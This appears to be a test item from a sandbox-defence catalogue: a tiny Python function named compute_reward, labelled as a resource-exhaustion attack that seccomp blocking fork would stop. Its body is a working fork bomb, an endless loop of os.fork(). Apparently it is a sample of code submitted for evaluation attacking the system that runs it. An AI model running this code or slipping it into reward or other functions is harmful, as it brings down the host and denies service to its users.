# attack: processes without end
# group: exhaustion
# wall: language; alone: seccomp (no fork)

def compute_reward(x):
    import os
    while True: os.fork()
